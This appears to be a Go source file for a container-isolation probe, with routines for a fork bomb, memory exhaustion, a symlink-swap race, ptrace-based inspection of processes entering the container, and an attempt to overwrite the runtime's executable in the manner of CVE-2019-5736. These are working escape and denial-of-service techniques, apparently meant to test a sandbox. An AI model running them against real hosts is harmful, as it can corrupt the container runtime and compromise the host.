package main

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// bomb starts processes until it may not, says how many, and waits.
func bomb() {
	n := 0
	for ; n < 5000; n++ {
		process, err := os.StartProcess("/proc/self/exe", []string{"probe", "hold"}, &os.ProcAttr{})
		if err != nil {
			fmt.Println("bomb:", result(err))
			break
		}
		_ = process
	}
	fmt.Println("bomb started", n)
	hold()
}

// eat uses memory until it is killed or has 512 MiB.
func eat() {
	var kept [][]byte
	for range 512 {
		block := make([]byte, 1<<20)
		for i := 0; i < len(block); i += 4096 {
			block[i] = 1
		}
		kept = append(kept, block)
	}
	fmt.Println("ate", len(kept), "MiB")
}

// swap exchanges a directory with a symbolic link that points out, as fast as it can.
func swap(args []string) {
	dir, link := args[0], args[1]
	fmt.Println("swapping")
	for {
		if err := unix.Renameat2(unix.AT_FDCWD, dir, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE); err != nil {
			fmt.Println("swap:", err)
			return
		}
	}
}

// watch looks at every process that appears in its pid namespace, for what a
// runtime on its way into the container may leave open: its executable, its
// memory, its root, its descriptors. It tells what it got hold of.
func watch() {
	runtime.LockOSThread() // a tracer is a thread
	own, _ := os.Stat("/proc/self/exe")
	seen := map[string]bool{}
	say := func(format string, args ...any) {
		if line := fmt.Sprintf(format, args...); !seen[line] {
			seen[line] = true
			fmt.Println(line)
		}
	}
	fmt.Println("watching")
	for end := time.Now().Add(time.Minute); time.Now().Before(end); {
		dirs, _ := filepath.Glob("/proc/[0-9]*")
		for _, dir := range dirs {
			pid, _ := strconv.Atoi(filepath.Base(dir))
			if pid == os.Getpid() {
				continue
			}
			examine(dir, pid, own, say)
		}
	}
}

func examine(dir string, pid int, own os.FileInfo, say func(string, ...any)) {
	if exe, err := os.Open(dir + "/exe"); err == nil {
		if info, err := exe.Stat(); err == nil && !os.SameFile(info, own) {
			// Of what is held: the process may have ended or become another one.
			name, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(int(exe.Fd())))
			say("saw executable %s", name)
			overwrite(exe, name, say)
		}
		exe.Close()
	}
	if root, err := os.Stat(dir + "/root/probe"); err != nil || !os.SameFile(root, own) {
		if _, err := os.Stat(dir + "/root/etc/passwd"); err == nil {
			say("ESCAPED: saw another root through %s/root", dir)
		}
	}
	fds, _ := os.ReadDir(dir + "/fd")
	for _, fd := range fds {
		target, err := os.Readlink(dir + "/fd/" + fd.Name())
		kind, _, _ := strings.Cut(target, ":")
		if err == nil && kind != "pipe" && kind != "anon_inode" && target != "/dev/null" && !strings.HasPrefix(target, "/proc") {
			say("saw descriptor %s", kind)
			if strings.HasPrefix(target, "/") {
				if dirInfo, err := os.Stat(dir + "/fd/" + fd.Name()); err == nil && dirInfo.IsDir() {
					say("ESCAPED: saw directory %s through a descriptor", target)
				}
			}
		}
	}
	if _, _, errno := unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_SEIZE, uintptr(pid), 0, 0, 0, 0); errno == 0 {
		if exe, err := os.Stat(dir + "/exe"); err == nil && !os.SameFile(exe, own) {
			name, _ := os.Readlink(dir + "/exe")
			say("traced %s", name)
		}
		unix.PtraceInterrupt(pid)
		var status unix.WaitStatus
		unix.Wait4(pid, &status, unix.WALL, nil)
		privileged(dir, say)
		unix.PtraceDetach(pid)
	}
}

// privileged tells whether a process that can be traced has more rights than its
// tracer, who could then use them.
func privileged(dir string, say func(string, ...any)) {
	theirs, ours := capabilities(dir), capabilities("/proc/self")
	if theirs&^ours != 0 {
		say("PRIVILEGED: traced a process that has %#x more", theirs&^ours)
	}
}

func capabilities(dir string) uint64 {
	status, _ := os.ReadFile(dir + "/status")
	_, after, _ := strings.Cut(string(status), "CapPrm:\t")
	line, _, _ := strings.Cut(after, "\n")
	set, _ := strconv.ParseUint(line, 16, 64)
	return set
}

// overwrite tries what CVE-2019-5736 did: hold the executable, and write to it
// as soon as nobody runs it.
func overwrite(exe *os.File, name string, say func(string, ...any)) {
	path := "/proc/self/fd/" + strconv.Itoa(int(exe.Fd()))
	for range 200 {
		fd, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err == nil {
			if n, err := unix.Pwrite(fd, []byte("#!/owned\n"), 0); err == nil && n > 0 {
				say("OVERWROTE %s", name)
			} else {
				say("write: %s", result(err))
			}
			unix.Close(fd)
			return
		}
		if errno, _ := errnoOf(err); errno != syscall.ETXTBSY {
			say("open for writing: %s", result(err))
			return
		}
	}
	say("open for writing: still busy")
}
